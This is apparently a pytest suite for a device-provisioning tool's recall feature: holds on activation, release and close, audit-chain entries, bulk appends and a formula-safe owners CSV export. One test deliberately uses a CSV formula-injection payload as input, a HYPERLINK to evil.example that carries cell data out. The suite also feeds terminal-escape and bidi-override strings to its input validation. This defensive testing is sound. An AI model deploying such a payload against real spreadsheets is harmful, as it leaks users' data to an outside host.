"""Recalls: the devices a trace matched, kept; the hold on activation end to end; recall
events in each device's chain, appended in bulk exactly as one by one; the owners export."""

from __future__ import annotations

import csv
import getpass
import io
import json
import threading
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from flask.testing import FlaskClient
from sqlalchemy import event, select, text

from provision.activation import REASONS, ActivationRejected, activate
from provision.audit import log_action, make_sealer, revoke, verify_chains
from provision.chain import canonical_json
from provision.keys import Keyring, load_keyring
from provision.payload import payload_url
from provision.recalls import close_recall, create_recall
from provision.registry import NewAction, Registry, action_log, devices, utcnow
from provision.registry.events import _append_action, _reseal, append_actions
from provision.trace import TraceQuery
from provision.web import WebSettings, create_app
from tests.helpers import register_with_components

BASE_URL = "http://localhost:5001"
API = "/api/v1/activations"
RECALLED = REASONS["recalled"]  # type: ignore[index]


def operator() -> str:
    """Who the CLI records as the actor of recall events."""
    try:
        return getpass.getuser()
    except (KeyError, OSError):
        return "unknown"


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.output
    return result


class Lab:
    """Devices D1-D6 carry an ACME battery of lot L1, D7 one of lot L2; CLI and web at hand."""

    def __init__(self, registry: Registry, keyring_path: Path, run_cli: Any, tmp: Path) -> None:
        self.registry = registry
        self.keyring_path = keyring_path
        self.run_cli = run_cli
        self.tmp = tmp
        rows = [[f"D{i}", "battery", "CR2032", f"BAT-{i}", "ACME", "L1"] for i in range(1, 7)]
        rows.append(["D7", "battery", "CR2032", "BAT-7", "ACME", "L2"])
        self.devices = register_with_components(registry, self.keyring, tmp, "line1", rows)

    @property
    def keyring(self) -> Keyring:
        return load_keyring(self.keyring_path)

    def did(self, serial: str) -> str:
        return str(self.devices[serial].device_id)

    def url(self, serial: str) -> str:
        return payload_url(BASE_URL, self.devices[serial].payload)

    def pk(self, serial: str) -> int:
        return int(self.devices[serial].id)

    def device(self, serial: str) -> Any:
        return self.registry.devices.get(self.did(serial))

    def activate(self, serial: str, user: str = "alice@example.com") -> Any:
        return activate(self.registry, self.keyring, self.url(serial), user)

    def refusal(self, serial: str, user: str = "mallory") -> str:
        with pytest.raises(ActivationRejected) as info:
            self.activate(serial, user)
        return str(info.value.reason)

    def cli(self, *args: str) -> Result:
        return self.run_cli(*args)

    def json(self, *args: str) -> Any:
        return json.loads(ok(self.run_cli(*args, "--json")).stdout)

    def recall(self, name: str, *args: str, reason: str = "cells swell above 45 C") -> Any:
        return self.json("recall", "create", name, *args, "--reason", reason)

    def actions(self, serial: str) -> list[dict[str, Any]]:
        return self.json("history", self.did(serial))["actions"]  # type: ignore[no-any-return]

    def client(self) -> FlaskClient:
        settings = WebSettings(
            self.registry.url, str(self.keyring_path), BASE_URL, rate_limit="1000 per minute"
        )
        return create_app(settings, registry=self.registry, keyring=self.keyring).test_client()

    def rejected_reasons(self, serial: str) -> list[str | None]:
        return [e.reason for e in self.registry.events.pairing_events_of(self.pk(serial))]


@pytest.fixture
def lab(registry: Registry, keyring_path: Path, run_cli: Any, tmp_path: Path) -> Lab:
    return Lab(registry, keyring_path, run_cli, tmp_path)


# -- what a recall records -------------------------------------------------------------------


def test_a_recall_keeps_its_query_and_the_devices_it_matched_when_it_was_made(lab: Lab) -> None:
    lab.activate("D1")
    made = lab.recall("battery-2611", "--lot", "L1", "--supplier", "ACME", "--hold")
    assert made == {
        "name": "battery-2611",
        "reason": "cells swell above 45 C",
        "query": {"lot": "L1", "supplier": "ACME"},
        "hold": True,
        "state": "open",
        "created_at": made["created_at"],
        "created_by": operator(),
        "closed_at": None,
        "closed_by": None,
        "devices": 6,
        "by_status": {"activated": 1, "pending": 5},
        "held": 5,
        "released": 0,
    }
    # A device registered later with the same lot is traced, but not in the recall.
    later = register_with_components(
        lab.registry,
        lab.keyring,
        lab.tmp,
        "line1-late",
        [["D8", "battery", "CR2032", "", "ACME", "L1"]],
    )
    assert lab.json("trace", "--lot", "L1")["summary"]["devices"] == 7
    shown = lab.json("recall", "show", "battery-2611")
    assert (shown["devices"], shown["held"]) == (6, 5)
    with lab.registry.engine.connect() as conn:
        stored = conn.execute(text("SELECT query_json, hold FROM recalls")).one()
        members = set(conn.execute(text("SELECT device_pk FROM recall_devices")).scalars())
    assert stored[0] == '{"lot":"L1","supplier":"ACME"}' and bool(stored[1])
    assert members == {lab.pk(f"D{i}") for i in range(1, 7)}
    assert later["D8"].id not in members


def test_a_recall_by_component_serial_stores_only_its_keyed_hash(lab: Lab) -> None:
    made = lab.recall("one-cell", "--component-serial", "BAT-3")
    assert made["devices"] == 1
    assert set(made["query"]) == {"component_serial_hash"}
    with lab.registry.engine.connect() as conn:
        stored = conn.execute(text("SELECT query_json FROM recalls")).scalar_one()
    assert "BAT-3" not in stored


def test_show_prints_query_counts_hold_and_state(lab: Lab) -> None:
    lab.activate("D1")
    lab.recall("r1", "--lot", "L1", "--hold")
    ok(lab.cli("recall", "release", "r1", lab.did("D2")))
    out = ok(lab.cli("recall", "show", "r1")).stdout.splitlines()
    assert out[0] == "Recall r1 (open, hold)"
    assert out[1] == "  reason: cells swell above 45 C"
    assert out[2] == '  query: {"lot": "L1"}'
    assert out[3].startswith("  created ") and out[3].endswith(f" by {operator()}")
    assert out[4:] == ["  devices: 6 (1 activated, 5 pending)", "  held: 4; released: 1"]
    ok(lab.cli("recall", "close", "r1"))
    closed = ok(lab.cli("recall", "show", "r1")).stdout.splitlines()
    assert closed[0] == "Recall r1 (closed, hold)"
    assert closed[4].startswith("  closed ") and closed[-1] == "  held: 0; released: 1"


def test_list_shows_every_recall_oldest_first(lab: Lab) -> None:
    assert ok(lab.cli("recall", "list")).stdout == "No recalls.\n"
    lab.recall("r1", "--lot", "L1", "--hold")
    lab.recall("r2", "--lot", "L2")
    ok(lab.cli("recall", "close", "r1"))
    listed = lab.json("recall", "list")["recalls"]
    assert [(r["name"], r["state"], r["hold"], r["devices"], r["held"]) for r in listed] == [
        ("r1", "closed", True, 6, 0),
        ("r2", "open", False, 1, 0),
    ]
    text_rows = ok(lab.cli("recall", "list")).stdout.splitlines()
    assert text_rows[0].split()[:5] == ["NAME", "STATE", "HOLD", "DEVICES", "HELD"]
    assert text_rows[1].split()[:5] == ["r1", "closed", "yes", "6", "0"]
    assert text_rows[2].split()[:5] == ["r2", "open", "no", "1", "0"]


# -- the hold, end to end ----------------------------------------------------------------------


def test_a_held_device_is_refused_by_the_api_the_scan_page_and_the_cli(lab: Lab) -> None:
    lab.activate("D1")  # activated before the recall: it stays activated
    lab.recall("r1", "--lot", "L1", "--hold")
    client = lab.client()

    api = client.post(API, json={"payload": lab.url("D2"), "user": "bob"})
    assert api.status_code == 403
    assert api.get_json() == {"error": {"reason": "recalled", "message": RECALLED}}

    page = client.get("/A/" + lab.devices["D3"].payload)  # the page says so before any typing
    assert page.status_code == 403 and page.mimetype == "text/html"
    assert '<code id="reason">recalled</code>' in page.get_data(as_text=True)
    assert "<form" not in page.get_data(as_text=True)
    other = client.get("/A/" + lab.devices["D7"].payload)  # a form, for the session's token
    csrf = other.get_data(as_text=True).split('name="csrf_token" value="')[1].split('"')[0]
    scan = client.post("/A/" + lab.devices["D3"].payload, data={"csrf_token": csrf, "user": "c"})
    assert scan.status_code == 403 and scan.mimetype == "text/html"
    html = scan.get_data(as_text=True)
    assert '<code id="reason">recalled</code>' in html
    assert "held by a product recall" in html and "<form" not in html

    cli = lab.cli("activate", lab.url("D4"), "--user", "dave")
    assert cli.exit_code == 1
    assert cli.stderr == f"Error: recalled: {RECALLED}\n"

    for serial in ("D2", "D3", "D4"):
        assert lab.device(serial).status == "pending"
        # Each refusal is a rejected attempt on the device's pairing chain, as every one is.
        assert lab.rejected_reasons(serial) == ["recalled"]
    assert lab.refusal("D1") == "already_activated"  # the hold changes nothing of D1
    assert lab.activate("D7").device_id == lab.did("D7")  # lot L2: not recalled
    assert verify_chains(lab.registry, lab.keyring).ok


def test_release_lets_that_device_activate_and_no_other(lab: Lab) -> None:
    lab.recall("r1", "--lot", "L1", "--hold")
    assert lab.refusal("D2") == "recalled"
    # The device id as a label prints it: "ID " and a prefix of 6 or more.
    released = lab.json("recall", "release", "r1", "ID " + lab.did("D2")[:8].upper())
    assert released == {"recall": "r1", "device_id": lab.did("D2"), "still_held_by": None}
    cli = ok(lab.cli("activate", lab.url("D2"), "--user", "bob"))
    assert cli.stdout.startswith(f"Activated device {lab.did('D2')} (sensor) for bob.")
    assert lab.refusal("D3") == "recalled"
    shown = lab.json("recall", "show", "r1")
    assert (shown["held"], shown["released"], shown["by_status"]) == (
        5,
        1,
        {"activated": 1, "pending": 5},
    )


def test_close_ends_the_hold_of_every_device(lab: Lab) -> None:
    lab.recall("r1", "--lot", "L1", "--hold")
    assert lab.refusal("D3") == "recalled"
    closed = ok(lab.cli("recall", "close", "r1"))
    assert closed.stdout == "Recall r1 closed (6 devices).\n"
    resp = lab.client().post(API, json={"payload": lab.url("D3"), "user": "carol"})
    assert resp.status_code == 201, resp.get_data(as_text=True)
    assert lab.activate("D4").device_id == lab.did("D4")


def test_a_recall_without_hold_stops_no_activation(lab: Lab) -> None:
    lab.recall("notice", "--lot", "L1")
    assert lab.activate("D2").device_id == lab.did("D2")


def test_a_device_held_by_two_recalls_waits_for_both(lab: Lab) -> None:
    lab.recall("r1", "--lot", "L1", "--hold")
    lab.recall("r2", "--component-type", "battery", "--hold")
    out = ok(lab.cli("recall", "release", "r1", lab.did("D2"))).stdout
    assert (
        out == f"Device {lab.did('D2')} released from recall r1. It is still held by recall r2.\n"
    )
    assert lab.refusal("D2") == "recalled"
    ok(lab.cli("recall", "release", "r2", lab.did("D2")))
    assert lab.activate("D2").device_id == lab.did("D2")


def test_the_hold_is_part_of_the_activation_update_itself(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A recall committed after activate() checked for a hold still stops it: the
    conditional UPDATE holds the same condition (and the pairing event says `recalled`)."""
    lab.recall("r1", "--lot", "L1", "--hold")
    monkeypatch.setattr(lab.registry.recalls, "holding", lambda pk: None)  # the check missed it
    assert lab.refusal("D2") == "recalled"
    assert lab.device("D2").status == "pending" and lab.device("D2").user_id is None
    assert lab.rejected_reasons("D2") == ["recalled"]
    assert verify_chains(lab.registry, lab.keyring).ok


def test_a_recall_made_while_customers_activate_leaves_every_chain_intact(
    registry: Registry, keyring_path: Path, tmp_path: Path
) -> None:
    """Scans racing the recall's bulk append: each device ends activated or held, never in
    between, every one is in the recall, and no chain forks (the bulk path locks the rows)."""
    keyring = load_keyring(keyring_path)
    rows = [[f"R{i:03d}", "battery", "CR2032", "", "ACME", "LR"] for i in range(60)]
    made = register_with_components(registry, keyring, tmp_path, "race", rows)
    targets = list(made.values())
    barrier = threading.Barrier(4)
    under_way = threading.Event()  # some scans are done: the recall starts among the rest
    outcomes: dict[str, str] = {}
    errors: list[BaseException] = []

    def customer(share: list[Any]) -> None:
        barrier.wait(timeout=30)
        for d in share:
            try:
                activate(registry, keyring, payload_url(BASE_URL, d.payload), "c")
                outcomes[d.device_id] = "activated"
            except ActivationRejected as exc:
                outcomes[d.device_id] = str(exc.reason)
            except BaseException as exc:  # shown by the assertion below
                errors.append(exc)
            if len(outcomes) >= 12:
                under_way.set()

    def recaller() -> None:
        under_way.wait(timeout=30)
        try:
            create_recall(
                registry, keyring, "race", TraceQuery(lot="LR"), "x", hold=True, actor="qa"
            )
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=customer, args=(targets[i::4],)) for i in range(4)]
    threads.append(threading.Thread(target=recaller))
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert errors == []
    assert set(outcomes.values()) <= {"activated", "recalled"}
    for d in targets:
        now = registry.devices.get(d.device_id)
        assert now is not None
        assert now.status == ("activated" if outcomes[d.device_id] == "activated" else "pending")
    recall = registry.recalls.get("race")
    assert recall is not None
    info = registry.recalls.counts(recall)
    assert info.devices == 60
    assert info.held == sum(1 for o in outcomes.values() if o == "recalled")
    assert verify_chains(registry, keyring).ok


# -- recall events in each device's history ------------------------------------------------------


def test_each_recall_event_is_an_action_in_the_affected_devices_chains(lab: Lab) -> None:
    lab.activate("D1", "alice")
    lab.recall("r1", "--lot", "L1", "--hold")
    ok(lab.cli("recall", "release", "r1", lab.did("D2")))
    lab.activate("D2", "bob")
    ok(lab.cli("recall", "close", "r1"))
    meta = {"recall": "r1", "reason": "cells swell above 45 C", "hold": True}
    me = operator()
    d2 = [(a["action_type"], a["metadata"], a["actor"]) for a in lab.actions("D2")]
    assert d2 == [
        ("recall.created", meta, me),
        ("recall.released", meta, me),
        ("activated", {"user": "bob"}, "bob"),
        ("recall.closed", meta, me),
    ]
    d1 = [(a["action_type"], a["metadata"], a["actor"]) for a in lab.actions("D1")]
    assert d1 == [
        ("activated", {"user": "alice"}, "alice"),
        ("recall.created", meta, me),
        ("recall.closed", meta, me),
    ]
    assert lab.actions("D7") == []  # not recalled: nothing in its history
    text_history = ok(lab.cli("history", lab.did("D3"))).stdout
    assert "recall.created  hold=true reason=cells swell above 45 C recall=r1" in text_history
    audit = ok(lab.cli("audit", "verify"))
    assert audit.stdout.strip().endswith("all chains and seals intact")


# -- the owners export ---------------------------------------------------------------------------


def test_the_owners_export_lists_only_activated_devices_and_is_formula_safe(
    lab: Lab, tmp_path: Path
) -> None:
    lab.activate("D1", '=HYPERLINK("http://evil.example/?"&A1,"Click me")')
    lab.activate("D2", "-2+3")
    lab.activate("D3", "carol@example.com")
    lab.activate("D4", "dave@example.com")
    revoke(lab.registry, lab.keyring, lab.device("D4"), "stolen", "support")  # not activated now
    lab.activate("D6", "erin@example.com")  # released below: no notification
    lab.activate("D7", "frank@example.com")  # lot L2: not in the recall
    lab.recall("r1", "--lot", "L1")
    ok(lab.cli("recall", "release", "r1", lab.did("D6")))  # D5 stays pending

    out = ok(lab.cli("recall", "export", "r1", "--owners"))
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert rows[0] == ["device_id", "user", "activated_at"]
    assert rows[1:] == [
        [
            lab.did("D1"),
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click me")',
            lab.device("D1").activated_at.isoformat(),
        ],
        [lab.did("D2"), "'-2+3", lab.device("D2").activated_at.isoformat()],
        [lab.did("D3"), "carol@example.com", lab.device("D3").activated_at.isoformat()],
    ]
    target = tmp_path / "notify" / "r1-owners.csv"
    written = ok(lab.cli("recall", "export", "r1", "--owners", "--output", str(target)))
    assert written.stdout == "" and written.stderr == f"3 owners -> {target}\n"
    assert target.read_text(encoding="utf-8") == out.stdout
    assert [p.name for p in target.parent.iterdir()] == ["r1-owners.csv"]
    assert target.stat().st_mode & 0o777 == 0o600  # it names customers
    again = lab.json("recall", "export", "r1", "--owners", "--output", str(target))
    assert again == {"recall": "r1", "owners": 3, "output": str(target)}


def test_the_export_needs_owners_and_a_known_recall(lab: Lab) -> None:
    lab.recall("r1", "--lot", "L1")
    missing = lab.cli("recall", "export", "r1")
    assert (
        missing.exit_code == 2
        and missing.stderr == "Error: give --owners (the only export so far)\n"
    )
    to_stdout = lab.cli("recall", "export", "r1", "--owners", "--json")
    assert to_stdout.exit_code == 2
    assert json.loads(to_stdout.stdout)["error"]["type"] == "usage"
    unknown = lab.cli("recall", "export", "nope", "--owners")
    assert unknown.exit_code == 1 and unknown.stdout == ""
    assert unknown.stderr == "Error: no recall named 'nope' (see `provision recall list`)\n"


# -- refusals ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [".r1", "r 1", "r/1", "x" * 65, "réc"])
def test_a_recall_name_must_be_like_a_batch_name(lab: Lab, name: str) -> None:
    result = lab.cli("recall", "create", name, "--lot", "L1", "--reason", "x")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: recall name {name!r} is not usable: 1-64 letters")
    assert ok(lab.cli("recall", "list")).stdout == "No recalls.\n"


@pytest.mark.parametrize(
    ("reason", "message"),
    [
        ("  ", "--reason must say why the devices are recalled"),
        ("bad\x1b[2J", "--reason contains a control character (U+001B)"),
        ("x\u202eevil", "--reason contains a bidirectional control character (U+202E)"),
        ("x" * 1001, "--reason is longer than 1000 characters"),
    ],
)
def test_a_recall_reason_is_required_and_checked(lab: Lab, reason: str, message: str) -> None:
    result = lab.cli("recall", "create", "r1", "--lot", "L1", "--reason", reason)
    assert result.exit_code == 1
    assert result.stderr == f"Error: {message}\n"


def test_a_recall_needs_a_filter_a_new_name_and_a_device(lab: Lab) -> None:
    bare = lab.cli("recall", "create", "r1", "--reason", "x")
    assert bare.exit_code == 2 and "give at least one of --lot" in bare.stderr
    empty = lab.cli("recall", "create", "r1", "--lot", "NOPE", "--reason", "x", "--json")
    assert empty.exit_code == 1
    assert json.loads(empty.stdout)["error"]["type"] == "recall"
    assert "no device carries components matching" in empty.stderr
    assert ok(lab.cli("recall", "list")).stdout == "No recalls.\n"  # nothing half recorded
    lab.recall("r1", "--lot", "L1")
    again = lab.cli("recall", "create", "r1", "--lot", "L2", "--reason", "x")
    assert again.exit_code == 1 and again.stderr == "Error: a recall named 'r1' exists already\n"
    assert lab.actions("D7") == []


def test_release_and_close_refuse_what_does_not_apply(lab: Lab) -> None:
    lab.recall("r1", "--lot", "L1", "--hold")

    def error(*args: str) -> str:
        result = lab.cli("recall", *args)
        assert result.exit_code == 1, result.output
        return str(result.stderr)

    assert error("release", "r1", lab.did("D7")) == (
        f"Error: device {lab.did('D7')} is not in recall r1\n"
    )
    ok(lab.cli("recall", "release", "r1", lab.did("D2")))
    assert error("release", "r1", lab.did("D2")).startswith(
        f"Error: device {lab.did('D2')} was released from recall r1 at "
    )
    assert error("release", "r1", "abc") == (
        "Error: device id 'abc' is too short: give at least 6 of its 16 characters\n"
    )
    assert error("release", "nope", lab.did("D2")) == (
        "Error: no recall named 'nope' (see `provision recall list`)\n"
    )
    ok(lab.cli("recall", "close", "r1"))
    assert error("close", "r1") == "Error: recall r1 is closed already\n"
    assert error("release", "r1", lab.did("D3")) == (
        "Error: recall r1 is closed: it holds no device any more\n"
    )
    assert [a["action_type"] for a in lab.actions("D3")] == ["recall.created", "recall.closed"]


# -- the bulk append -----------------------------------------------------------------------------


def _newest(conn: Any, pk: int) -> tuple[Any, ...]:
    """A device's newest entry (without its row id) and its chain head, count and seal."""
    entry = conn.execute(
        select(*(c for c in action_log.c if c.name != "id"))
        .where(action_log.c.device_pk == pk)
        .order_by(action_log.c.seq.desc())
        .limit(1)
    ).one()
    row = conn.execute(
        select(devices.c.action_count, devices.c.action_head, devices.c.seal).where(
            devices.c.id == pk
        )
    ).one()
    return tuple(entry) + tuple(row)


def test_the_bulk_append_writes_exactly_what_the_per_device_path_writes(lab: Lab) -> None:
    lab.activate("D1", "alice")  # a chain with entries already
    log_action(lab.registry, lab.keyring, lab.device("D1"), "firmware_update", {"v": "2"})
    sealer = make_sealer(lab.keyring)
    meta = canonical_json({"recall": "r", "reason": "why", "hold": True})
    at = utcnow() - timedelta(minutes=5)
    targets = [lab.device(s) for s in ("D1", "D2", "D3")]
    actions = {
        d.id: NewAction("recall.created", meta, None, f"qa-{d.device_id[:4]}", at) for d in targets
    }
    with lab.registry.engine.connect() as conn:
        tx = conn.begin()
        append_actions(conn, lab.registry.store, list(actions.items()), sealer)
        bulk = {d.id: _newest(conn, d.id) for d in targets}
        tx.rollback()
        tx = conn.begin()
        for d in targets:
            _append_action(conn, d.id, d.device_id, actions[d.id], sealer)
            _reseal(conn, d.id, sealer)
        one_by_one = {d.id: _newest(conn, d.id) for d in targets}
        tx.rollback()
    assert bulk == one_by_one
    assert [bulk[d.id][1] for d in targets] == [3, 1, 1]  # seq: after two entries, and first


def test_recall_create_and_close_take_as_many_statements_for_many_devices_as_for_few(
    registry: Registry, keyring_path: Path, tmp_path: Path
) -> None:
    keyring = load_keyring(keyring_path)
    rows = [[f"F{i:03d}", "battery", "CR2032", "", "ACME", "FEW"] for i in range(20)]
    rows += [[f"M{i:03d}", "battery", "CR2032", "", "ACME", "MANY"] for i in range(300)]
    register_with_components(registry, keyring, tmp_path, "b", rows)
    statements: list[str] = []

    def count(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
        statements.append(statement)

    measured = {}
    event.listen(registry.engine, "before_cursor_execute", count)
    try:
        for lot in ("FEW", "MANY"):
            statements.clear()
            made = create_recall(
                registry, keyring, lot, TraceQuery(lot=lot), "x", hold=True, actor="qa"
            )
            created = len(statements)
            statements.clear()
            close_recall(registry, keyring, lot, actor="qa")
            measured[lot] = (made.counts.devices, created, len(statements))
    finally:
        event.remove(registry.engine, "before_cursor_execute", count)
    # One action per device, but per chunk of devices a fixed handful of statements.
    assert measured["FEW"][0] == 20 and measured["MANY"][0] == 300
    assert measured["FEW"][1:] == measured["MANY"][1:]
    assert verify_chains(registry, keyring).ok


def test_resign_appends_in_bulk_and_every_chain_stays_intact(lab: Lab) -> None:
    lab.activate("D1")
    log_action(lab.registry, lab.keyring, lab.device("D2"), "inspected")
    keyring = lab.keyring
    keyring.rotate()
    keyring.save()
    batch = lab.registry.batches.id_of("line1")
    assert batch is not None
    moved = lab.registry.events.resign(
        batch, keyring.active.id, "qa", utcnow(), make_sealer(keyring)
    )
    assert moved == 6  # every pending device; D1 is activated
    assert [a["action_type"] for a in lab.actions("D2")] == ["inspected", "resigned"]
    assert lab.actions("D3")[0]["metadata"] == {"from_key_id": 1, "key_id": 2}
    assert lab.device("D1").key_id == 1 and lab.device("D3").key_id == 2
    assert verify_chains(lab.registry, keyring).ok
